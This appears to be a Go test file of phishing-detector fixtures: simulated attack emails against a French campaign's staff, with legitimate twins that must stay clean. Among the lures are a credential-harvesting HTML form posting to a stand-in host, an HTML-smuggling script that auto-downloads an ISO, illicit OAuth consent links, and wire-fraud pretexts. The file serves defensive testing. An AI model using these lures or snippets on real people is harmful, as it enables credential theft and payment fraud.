package mail

import "testing"

func authPass(d string) string {
	return "Authentication-Results: mx.en-marche.fr; spf=pass smtp.mailfrom=" + d + "; dkim=pass header.d=" + d + "; dmarc=pass header.from=" + d
}

func authNone(d string) string {
	return "Authentication-Results: mx.en-marche.fr; spf=none smtp.mailfrom=" + d + "; dkim=none; dmarc=none header.from=" + d
}

const quotedThread = "\r\n\r\nLe 3 févr. 2026 à 09:12, Camille Martin <c.martin@en-marche.fr> a écrit :\r\n> Bonjour Sophie,\r\n> merci pour votre message. Comme convenu, nous vous envoyons le devis signé pour l'impression des tracts du meeting de Lyon.\r\n> Pouvez-vous nous confirmer la date de livraison ? Le bon de commande est sur https://www.en-marche.fr/commandes.\r\n> Bien cordialement,\r\n> Camille\r\n"

// targetedSpecs are the targeted set: attacks modelled on those against
// campaigns in 2016–2017 (Podesta's "someone has your password", the
// "Google Docs" OAuth worm, the En Marche look-alikes and macro documents)
// and today's (QR codes, links moved into documents, thread hijacking,
// payout fraud, illicit consent grants), and legitimate twins that look
// the same and must stay clean.
func targetedSpecs(t testing.TB) []targetedSpec {
	return []targetedSpec{
		// --- account alerts and password lures ---
		{"attack-01-someone-has-your-password-shortener", tmsg{from: "Google <no-reply@accounts.googlemail.com>", subject: "*Someone has your password*",
			headers: []string{failGoogle}, html: podestaHTML}},
		{"attack-02-password-lookalike-login", tmsg{from: "Google <no-reply@accounts.google.com>", subject: "Someone has your password",
			headers: []string{authNone("myaccount.google.com-securitysettingpage.tk")},
			html:    `<p>Hi Camille,</p><p>Someone just used your password to try to sign in to your Google Account.</p><p>Google stopped this sign-in attempt. You should change your password immediately.</p><p><a href="https://myaccount.google.com-securitysettingpage.tk/security/signinoptions/password">CHANGE PASSWORD</a></p>`}},
		{"attack-03-google-alert-lookalike-sender", tmsg{from: "Google Accounts <security@google-accounts-security.com>", subject: "Security alert: new sign-in on Windows",
			html: `<p>A new sign-in on Windows</p><p>We noticed a new sign-in to your Google Account. If this wasn't you, secure your account now.</p><p><a href="https://google-accounts-security.com/secure?u=c.martin">Check activity</a></p>`}},
		{"attack-04-microsoft-unusual-signin", tmsg{from: "Microsoft account team <account-security-noreply@account-protection-microsoft.com>", subject: "Microsoft account unusual sign-in activity",
			html: `<p>We detected something unusual about a recent sign-in to the Microsoft account c.martin@en-marche.fr.</p><p>Country/region: Russia</p><p>Please go to your recent activity page to let us know whether or not this was you.</p><p><a href="https://account-protection-microsoft.com/activity">Review recent activity</a></p>`}},
		{"attack-05-party-lookalike-it-password-expiry", tmsg{from: "Service informatique <it@en-marche-fr.com>", subject: "Votre mot de passe expire aujourd'hui",
			html: `<p>Bonjour,</p><p>Le mot de passe de votre compte de messagerie expire aujourd'hui. Pour conserver le même mot de passe, confirmez-le ci-dessous.</p><p><a href="https://webmail.en-marche-fr.com/owa/auth">Conserver mon mot de passe</a></p><p>Le service informatique</p>`}},
		{"attack-06-mailbox-quota-party-it", tmsg{from: "Helpdesk En Marche <helpdesk@mailbox-quota-center.com>", subject: "Security alert: your mailbox is almost full",
			html: `<p>Your mailbox has reached 98% of its storage limit. You will not receive new messages until you verify your account.</p><p><a href="https://mailbox-quota-center.com/upgrade">Verify now</a></p>`}},
		// --- shares from look-alikes ---
		{"attack-07-onedrive-share-lookalike", tmsg{from: "OneDrive <share@onedrive-share.com>", subject: "Sophie shared \"Budget campagne 2026.xlsx\" with you",
			html: `<p>Sophie Bernard shared a file with you.</p><p><a href="https://onedrive-share.com/view/Budget-campagne-2026.xlsx">Open</a></p><p>Sign in with your Microsoft account to view this document.</p>`}},
		{"attack-08-google-drive-share-lookalike", tmsg{from: "Google Drive <drive-shares-noreply@drive-google-share.com>", subject: "Document shared with you: \"Listes électorales\"",
			html: `<p>Paul Girard has shared the following document:</p><p><a href="https://docs.google.com.drive-google-share.com/document/d/1Xy/edit">Listes électorales</a></p><p>Open in Docs. Sign in to view.</p>`}},
		{"attack-09-dropbox-share-lookalike", tmsg{from: "Dropbox <no-reply@dropbox-sharing.net>", subject: "Paul shared \"Tracts\" with you",
			html: `<p>Paul Girard invited you to view the folder "Tracts" on Dropbox.</p><p><a href="https://dropbox-sharing.net/sh/x1/tracts">View folder</a></p><p>Sign in to your account to access the shared files.</p>`}},
		{"attack-10-docusign-lookalike", tmsg{from: "DocuSign <dse@docusign-envelope.review>", subject: "Please review and sign: Convention de partenariat",
			html: `<p>Sophie Bernard sent you a document to review and sign.</p><p><a href="https://docusign-envelope.review/signing/9f8e">REVIEW DOCUMENT</a></p><p>Do not share this email. Sign in with your email password to access the document.</p>`}},
		// --- OAuth consent ---
		{"attack-11-oauth-google-docs-worm", tmsg{from: "Paul Girard <paul.girard.asso@gmail.com>", to: "hhhhhhhhhhhhhhhh@mailinator.com", subject: "Paul Girard has shared a document on Google Docs with you",
			headers: []string{authPass("gmail.com")},
			html:    `<p>Paul Girard has invited you to view the following document:</p><p><a href="https://accounts.google.com/o/oauth2/auth?client_id=346348593712-ae2b2ke9cmkq2akbuh2bf3dh2ce.apps.googleusercontent.com&scope=https://mail.google.com/+https://www.googleapis.com/auth/contacts&response_type=code&redirect_uri=https://googledocs.g-docs.win/g.php">Open in Docs</a></p>`}},
		{"attack-12-oauth-microsoft-consent", tmsg{from: "Microsoft 365 <no-reply@m365-apps.net>", subject: "Action required: approve the new secure document viewer",
			html: `<p>To keep reading shared documents, approve the Secure Viewer app for your account.</p><p><a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=6f1a2b3c-4d5e-4f60-8a9b-0c1d2e3f4a5b&response_type=code&scope=Mail.Read%20Mail.Send%20offline_access&redirect_uri=https://secure-viewer.app/cb">Approve</a></p>`}},
		// --- documents ---
		{"attack-13-macro-document-fake-ministry", tmsg{from: "Ministère de l'Intérieur <elections@interieur-gouv.fr>", subject: "Circulaire : comptes de campagne 2026",
			text: "Madame, Monsieur,\r\nVeuillez trouver ci-joint la circulaire relative aux comptes de campagne. Activez le contenu pour afficher le document.\r\nLe bureau des élections",
			atts: []tatt{{name: "circulaire-comptes-campagne.docm", ctype: "application/vnd.ms-word.document.macroEnabled.12", data: docmWithMacro()}}}},
		{"attack-14-macro-xlsm-donations", tmsg{from: "Comptabilité <compta@helloasso-finance.com>", subject: "Relevé des dons - janvier",
			text: "Bonjour,\r\nCi-joint le relevé des dons du mois. Activez les macros pour calculer les totaux.",
			atts: []tatt{{name: "releve-dons.xlsm", ctype: "application/vnd.ms-excel.sheet.macroEnabled.12", data: docmWithMacro()}}}},
		{"attack-15-html-attachment-login", tmsg{from: "Voicemail <voicemail@pbx-notify.net>", subject: "New voicemail (0:42) from +33 1 45 00 00 00",
			text: "You have a new voicemail. Open the attachment to listen.",
			atts: []tatt{{name: "voicemail.html", ctype: "text/html", data: []byte(`<html><body><h2>Microsoft 365</h2><p>Sign in to listen to your message</p><form action="https://pbx-notify.net/collect.php" method="post"><input name="login" value="c.martin@en-marche.fr"><input type="password" name="pw"><button>Sign in</button></form></body></html>`)}}}},
		{"attack-16-html-smuggling", tmsg{from: "Scan <scanner@office-scan-docs.com>", subject: "Document numérisé",
			text: "Votre document numérisé est en pièce jointe.",
			atts: []tatt{{name: "scan_0210.html", ctype: "text/html", data: []byte(`<html><script>var d=atob("TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFt");var b=new Blob([d]);var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="scan.iso";a.click();</script></html>`)}}}},
		{"attack-17-protected-archive-with-password", tmsg{from: "Sophie Bernard <s.bernard.imprimerie@gmail.com>", subject: "Facture impression tracts",
			text: "Bonjour,\r\nVoici la facture en pièce jointe, protégée. Mot de passe pour ouvrir : 2026\r\nCordialement, Sophie",
			atts: []tatt{{name: "facture.zip", ctype: "application/zip", data: encryptedZip("facture.pdf.js", 900)}}}},
		{"attack-18-zip-with-shortcut", tmsg{from: "Presse <presse@lemonde-redaction.com>", subject: "Questions pour l'interview",
			text: "Bonjour, voici mes questions pour l'interview de demain, dans l'archive jointe.",
			atts: []tatt{{name: "questions.zip", ctype: "application/zip", data: zipWith("questions.pdf.lnk", []byte("L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F"))}}}},
		{"attack-19-link-only-in-pdf", tmsg{from: "Collectif Citoyen <contact@collectif-citoyen-info.fr>", subject: "Programme de la réunion publique",
			text: "Bonjour,\r\nVous trouverez le programme de la réunion et le formulaire d'inscription dans le PDF joint.\r\nCordialement",
			atts: []tatt{{name: "programme.pdf", ctype: "application/pdf", data: pdfWithLink("https://docs-review-portal.top/login.php?id=en-marche", true)}}}},
		{"attack-20-link-only-in-docx", tmsg{from: "Fondation Avenir <contact@fondation-avenir-dons.org>", subject: "Proposition de don",
			text: "Bonjour,\r\nNotre fondation souhaite soutenir votre campagne. Les modalités du don sont dans le document joint ; merci de vous connecter pour valider vos coordonnées.",
			atts: []tatt{{name: "proposition.docx", ctype: "application/vnd.openxmlformats-officedocument.wordprocessingml.document", data: docxWithLink("https://validation-don.icu/connexion")}}}},
		// --- QR codes ---
		{"attack-21-qr-image-mfa", tmsg{from: "Microsoft 365 Security <security@m365-mfa-update.com>", subject: "Action required: re-enroll multi-factor authentication",
			html: `<p>Your multi-factor authentication expires today. Scan the QR code with your phone to verify your account and keep access to your mailbox.</p><p><img src="cid:qr1"></p>`,
			atts: []tatt{{name: "mfa.png", ctype: "image/png", data: qrPNG(t, "https://login.m365-mfa-update.com/verify?u=c.martin")}}}},
		{"attack-22-qr-in-pdf", tmsg{from: "Service RH <rh@payroll-docs-portal.com>", subject: "Bulletin de salaire : vérification requise",
			text: "Bonjour,\r\nVotre bulletin de salaire est disponible. Scannez le code QR du document joint pour vérifier votre compte et le consulter.",
			atts: []tatt{{name: "bulletin.pdf", ctype: "application/pdf", data: pdfWithJPEG(qrJPEG(t, "https://payroll-docs-portal.com/sso/login"))}}}},
		// --- calendar ---
		{"attack-23-calendar-invite-link", tmsg{from: "Sophie Bernard <sophie.bernard.imprimerie@gmail.com>", subject: "Invitation: Point stratégie campagne",
			text: "You have been invited to a meeting. Sign in to join with your Microsoft account.",
			atts: []tatt{{name: "invite.ics", ctype: "text/calendar; method=REQUEST", data: ics("Point stratégie campagne", "Join: https://teams-live-join.com/l/meetup-join/sign-in", "https://teams-live-join.com/l/meetup-join/sign-in", "sophie.bernard.imprimerie@gmail.com")}}}},
		// --- partners' look-alikes ---
		{"attack-24-fake-journalist-newspaper-lookalike", tmsg{from: "Marc Durand - Le Monde <m.durand@lemonde-fr.com>", subject: "Demande d'interview",
			text: "Bonjour,\r\nJe prépare un article sur votre campagne. Pourriez-vous relire mes questions avant l'interview ? Elles sont ici : https://lemonde-fr.com/redaction/questions\r\nMarc Durand, journaliste"}},
		{"attack-25-journalist-link-to-lookalike", tmsg{from: "Marc Durand <marc.durand.journaliste@gmail.com>", subject: "Interview - questions",
			text: "Bonjour,\r\nJe suis journaliste au Monde. Mes questions pour l'interview sont en ligne, il faut vous connecter pour les voir : https://www.lernonde.fr/interview/questions\r\nBien à vous"}},
		{"attack-26-donation-platform-payout-bank-details", tmsg{from: "HelloAsso <versements@helloasso-paiements.com>", subject: "Versement des dons en attente : confirmez vos coordonnées bancaires",
			text: "Bonjour,\r\nLe versement des dons collectés est en attente. Pour le recevoir, merci de confirmer vos coordonnées bancaires avant vendredi : https://helloasso-paiements.com/versement\r\nL'équipe HelloAsso"}},
		{"attack-27-bank-lookalike", tmsg{from: "Crédit Coopératif <alerte@credit-cooperatif-securite.com>", subject: "Alerte de sécurité : activité inhabituelle sur votre compte",
			html: `<p>Nous avons détecté une activité inhabituelle sur le compte de votre association.</p><p>Confirmez votre identité pour éviter le blocage du compte.</p><p><a href="https://credit-cooperatif-securite.com/connexion">Me connecter</a></p>`}},
		{"attack-28-ministry-lookalike-pdf", tmsg{from: "Ministère de l'Intérieur <bureau.elections@interieur-gouv.fr>", subject: "Déclaration de candidature : pièce manquante",
			text: "Madame, Monsieur,\r\nUne pièce manque à votre déclaration de candidature. Le détail est dans le courrier joint.",
			atts: []tatt{{name: "courrier.pdf", ctype: "application/pdf", data: pdfWithLink("https://interieur-gouv.fr/candidatures/depot", false)}}}},
		// --- payment fraud and thread hijacks ---
		{"attack-29-supplier-bank-change", tmsg{from: "Sophie Bernard <s.bernard@imprimerie-bernard.fr>", replyTo: "Sophie Bernard <sophie.bernard.compta@outlook.com>", subject: "Re: Facture tracts",
			headers: []string{authPass("imprimerie-bernard.fr")},
			text:    "Bonjour Camille,\r\nSuite à un changement de banque, merci de noter nos nouvelles coordonnées bancaires pour le règlement de la facture : IBAN FR76 3000 4000 0500 0012 3456 789. Merci de faire le virement aujourd'hui, c'est urgent.\r\nSophie" + quotedThread}},
		{"attack-30-thread-hijack-compromised-partner", tmsg{from: "Sophie Bernard <s.bernard@imprimerie-bernard.fr>", subject: "Re: Devis impression tracts",
			headers: []string{authPass("imprimerie-bernard.fr"), "In-Reply-To: <abc.1@en-marche.fr>", "References: <abc.1@en-marche.fr>"},
			text:    "Bonjour Camille,\r\nLe bon à tirer est prêt. Vous pouvez le consulter et le valider ici, connectez-vous avec votre adresse de messagerie : https://bat-docs-share.com/view/8821\r\nSophie" + quotedThread}},
		{"attack-31-thread-hijack-new-domain", tmsg{from: "Sophie Bernard <s.bernard@imprimerie-bernard-fr.com>", subject: "RE: Devis impression tracts",
			headers: []string{"In-Reply-To: <abc.1@en-marche.fr>"},
			text:    "Bonjour,\r\nVoici le document mis à jour, merci de le vérifier rapidement : https://secure-file-transfer.top/d/88\r\nSophie" + quotedThread}},
		{"attack-32-ceo-wire-request", tmsg{from: "Camille Martin <camille.martin.enmarche@gmail.com>", subject: "Virement urgent",
			text: "Bonjour,\r\nJe suis en réunion et injoignable. J'ai besoin que tu fasses un virement aujourd'hui à un nouveau fournisseur ; voici son nouveau RIB, merci d'envoyer le paiement au nouveau compte et de rester discret.\r\nCamille"}},
		{"attack-33-iso-with-program", tmsg{from: "Recrutement <jobs@campagne-recrutement.net>", subject: "Candidature - CV",
			text: "Bonjour, veuillez trouver mon CV ci-joint.",
			atts: []tatt{{name: "CV.zip", ctype: "application/zip", data: zipWith("CV.pdf.exe", []byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00PE\x00\x00"))}}}},

		{"attack-34-real-share-lure-title", tmsg{from: "Jeanne (via Google Drawings) <drive-shares-dm-noreply@google.com>", replyTo: "jeanne.k2291@gmail.com", subject: "Drawing shared with you: \"Your account will be suspended - verify your payment details\"",
			headers: []string{authPass("google.com")},
			html:    `<p>Jeanne shared a drawing</p><p><a href="https://docs.google.com/drawings/d/1AbC/edit?usp=sharing_eil">Your account will be suspended - verify your payment details</a></p><p>Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA.</p>`}},

		// --- legitimate twins ---
		{"legit-01-google-security-alert", tmsg{from: "Google <no-reply@accounts.google.com>", subject: "Security alert", headers: []string{passGoogle}, html: googleAlertHTML}},
		{"legit-02-microsoft-signin-alert", tmsg{from: "Microsoft account team <account-security-noreply@accountprotection.microsoft.com>", subject: "Microsoft account security alert",
			headers: []string{passMicrosoft},
			html:    `<p>New sign-in to your Microsoft account c.martin@en-marche.fr from Windows.</p><p>If this was you, you can ignore this message. If not, we'll help you secure your account.</p><p><a href="https://account.live.com/Activity">Review recent activity</a></p>`}},
		{"legit-03-google-drive-share", tmsg{from: "Paul Girard (via Google Drive) <drive-shares-dm-noreply@google.com>", replyTo: "Paul Girard <p.girard@en-marche.fr>", subject: "Document shared with you: \"Listes électorales\"",
			headers: []string{authPass("google.com")},
			html:    `<p>Paul Girard shared a document</p><p><a href="https://docs.google.com/document/d/1XyZ/edit?usp=sharing_eil">Listes électorales</a></p><p>Open</p><p>Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA. You have received this email because p.girard@en-marche.fr shared a document with you from Google Docs.</p>`}},
		{"legit-04-sharepoint-own-tenant", tmsg{from: "SharePoint Online <no-reply@sharepointonline.com>", subject: "Sophie shared \"Budget campagne 2026\" with you",
			headers: []string{authPass("sharepointonline.com")},
			html:    `<p>Sophie Bernard shared a file with you</p><p><a href="https://enmarche.sharepoint.com/:x:/s/finance/EaBc123?e=4Xyz">Budget campagne 2026.xlsx</a></p><p>This link only works for the direct recipients of this message.</p><p>Microsoft respects your privacy.</p>`}},
		{"legit-05-calendar-invitation", tmsg{from: "Paul Girard <p.girard@en-marche.fr>", subject: "Invitation: Point stratégie campagne @ mar. 10 févr. 2026 10:00",
			html: `<p>Paul Girard vous a invité à un événement.</p><p>Point stratégie campagne, mardi 10 février 10:00-11:00</p><p>Participer avec Google Meet : <a href="https://meet.google.com/abc-defg-hij">meet.google.com/abc-defg-hij</a></p><p><a href="https://calendar.google.com/calendar/event?action=RESPOND&eid=abc">Répondre</a></p>`,
			atts: []tatt{{name: "invite.ics", ctype: "text/calendar; method=REQUEST", data: ics("Point stratégie campagne", "Participer : https://meet.google.com/abc-defg-hij", "https://meet.google.com/abc-defg-hij", "p.girard@en-marche.fr")}}}},
		{"legit-06-helloasso-payout", tmsg{from: "HelloAsso <notifications@helloasso.com>", subject: "Votre versement de 1 250,00 € a été effectué",
			headers: []string{authPass("helloasso.com")},
			html:    `<p>Bonjour,</p><p>Le versement des dons collectés pour votre campagne (1 250,00 €) a été effectué sur le compte bancaire enregistré. Il apparaîtra sous 2 à 3 jours ouvrés.</p><p><a href="https://www.helloasso.com/associations/en-marche/administration/versements">Voir mes versements</a></p>`}},
		{"legit-07-thread-reply-same-link", tmsg{from: "Sophie Bernard <s.bernard@imprimerie-bernard.fr>", subject: "Re: Devis impression tracts",
			headers: []string{authPass("imprimerie-bernard.fr"), "In-Reply-To: <abc.1@en-marche.fr>"},
			text:    "Bonjour Camille,\r\nLa livraison est prévue jeudi matin. J'ai bien vu le bon de commande sur https://www.en-marche.fr/commandes.\r\nBonne journée,\r\nSophie" + quotedThread}},
		{"legit-08-newspaper-newsletter", tmsg{from: "Le Monde <newsletter@lemonde.fr>", subject: "La lettre politique du jeudi",
			headers: []string{authPass("lemonde.fr"), "List-Unsubscribe: <https://www.lemonde.fr/desinscription?u=1>"},
			html:    `<h1>La lettre politique</h1><p>Les articles de la semaine sur la campagne, sélectionnés par la rédaction.</p><p><a href="https://www.lemonde.fr/politique/article/2026/02/05/campagne.html">Lire l'article</a></p><p><a href="https://www.lemonde.fr/desinscription?u=1">Se désinscrire</a></p>`}},
		{"legit-09-own-pdf-with-link", tmsg{from: "Paul Girard <p.girard@en-marche.fr>", subject: "Programme de la réunion publique",
			text: "Bonjour,\r\nLe programme de la réunion est en pièce jointe. Les inscriptions se font sur notre site.\r\nPaul",
			atts: []tatt{{name: "programme.pdf", ctype: "application/pdf", data: pdfWithLink("https://www.en-marche.fr/evenements/reunion-lyon", false)}}}},
		{"legit-10-event-ticket-qr", tmsg{from: "Billetterie <billets@festival-lyon.fr>", subject: "Votre billet pour le festival",
			headers: []string{authPass("festival-lyon.fr")},
			html:    `<p>Bonjour,</p><p>Voici votre billet pour le festival du 14 mars. Présentez ce code à l'entrée.</p><p><a href="https://www.festival-lyon.fr/programme">Le programme</a></p>`,
			atts:    []tatt{{name: "billet.png", ctype: "image/png", data: qrPNG(t, "https://www.festival-lyon.fr/billet/8f3a2b")}}}},
		{"legit-11-journalist-real", tmsg{from: "Marc Durand <m.durand@lemonde.fr>", subject: "Demande d'interview",
			headers: []string{authPass("lemonde.fr")},
			text:    "Bonjour,\r\nJe prépare un article sur votre campagne pour Le Monde. Seriez-vous disponible jeudi pour un entretien téléphonique d'une demi-heure ?\r\nBien à vous,\r\nMarc Durand"}},
	}
}
